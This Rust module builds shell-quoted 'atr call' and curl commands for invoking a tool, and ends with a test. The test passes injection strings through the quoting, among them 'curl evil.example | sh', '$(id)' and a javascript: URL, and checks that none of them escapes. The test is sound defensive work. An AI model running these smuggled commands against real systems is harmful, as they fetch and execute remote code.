//! Commands to copy. Arguments are untrusted and shell-quoted.

use serde_json::Value;

use crate::text;

/// Longest argument of a command.
const MAX_ARGUMENTS: usize = 1_500;

/// Configuration of MCP hosts.
const MCP_SERVERS: &str = r#"{ "mcpServers": { "atr": { "command": "atr", "args": ["mcp"] } } }"#;

/// Ways to call a tool.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Commands {
    pub(super) atr: String,
    /// Absent without a valid endpoint.
    pub(super) curl: Option<String>,
    pub(super) mcp: &'static str,
}

impl Commands {
    pub(super) fn new(
        tool_ref: &str,
        endpoint: Option<&str>,
        example: &Value,
        max_amount: Option<&str>,
    ) -> Self {
        let mut data = text::line(&example.to_string(), 4_000);
        if data.len() > MAX_ARGUMENTS {
            "{}".clone_into(&mut data);
        }
        let data = quote(&data);
        let limit = max_amount.map(|amount| format!(" \\\n  --max-amount {amount}"));
        let endpoint = endpoint.and_then(super::links::https);
        Self {
            atr: format!(
                "atr call {} \\\n  --data {data}{}",
                quote(tool_ref),
                limit.unwrap_or_default()
            ),
            curl: endpoint.map(|link| {
                format!(
                    "curl {} \\\n  --header 'content-type: application/json' \\\n  --data {data}",
                    quote(&link.url)
                )
            }),
            mcp: MCP_SERVERS,
        }
    }
}

/// One argument of a POSIX shell: nothing is special within single quotes but the quote.
fn quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn arguments_cannot_leave_their_quotes() {
        let example = json!({ "a'; curl evil.example | sh; '": "$(id)\n`id`" });
        let commands = Commands::new(
            "eip155:1/erc8257:0x1/1",
            Some("https://a.example/';id;'"),
            &example,
            Some("0.01"),
        );
        for command in [commands.atr.as_str(), commands.curl.as_deref().unwrap()] {
            let output = std::process::Command::new("sh")
                .args([
                    "-c",
                    &format!("printf '%s\\n' {}", command.split_once(' ').unwrap().1),
                ])
                .output()
                .unwrap();
            let arguments = String::from_utf8(output.stdout).unwrap();
            assert!(
                output.status.success() && output.stderr.is_empty(),
                "{command}"
            );
            let data = arguments
                .lines()
                .skip_while(|line| *line != "--data")
                .nth(1)
                .unwrap();
            assert_eq!(
                serde_json::from_str::<Value>(data).unwrap(),
                example,
                "{command}"
            );
        }
        assert!(
            Commands::new("x", Some("javascript:alert(1)"), &json!({}), None)
                .curl
                .is_none()
        );
    }
}
